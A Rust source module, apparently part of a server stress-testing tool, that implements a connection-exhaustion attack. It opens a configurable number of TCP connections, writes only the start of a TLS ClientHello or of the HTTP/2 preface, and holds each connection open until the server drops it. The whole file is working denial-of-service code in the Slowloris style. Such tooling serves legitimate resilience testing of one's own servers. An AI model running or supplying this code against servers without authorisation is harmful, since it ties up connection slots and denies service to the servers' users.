//! Opens connections, begins a handshake of TLS on each and stops, until the server ends them. Without TLS it begins the
//! preface of HTTP/2 and stops.

use stickycas_client::Error;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::task::JoinSet;

use super::attack_context::AttackContext;
use super::byte_stream::{scheme, tcp};
use super::raw::PREFACE;

/// The beginning of a ClientHello of 512 bytes (RFC 8446, section 4.1.2): the record, the message, its version.
const CLIENT_HELLO: &[u8] = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03";
/// How much of the preface.
const PART: usize = 12;

pub(super) async fn attack(context: &AttackContext) -> Result<(), Error> {
    let begin = if scheme(context.config()) == "https" { CLIENT_HELLO } else { &PREFACE[..PART] };
    let mut halting = JoinSet::new();
    for _ in 0..context.count {
        context.tally.attempts(1);
        let mut stream = tcp(context.config()).await?;
        // One that is ended at once is ended as well.
        let _ = stream.write_all(begin).await;
        halting.spawn(async move { drop(stream.read_to_end(&mut Vec::new()).await) });
    }
    // They are there, and the process may go on: it can take long until they are ended.
    context.tally.effect();
    while halting.join_next().await.is_some() {
        context.tally.cut();
    }
    Ok(())
}
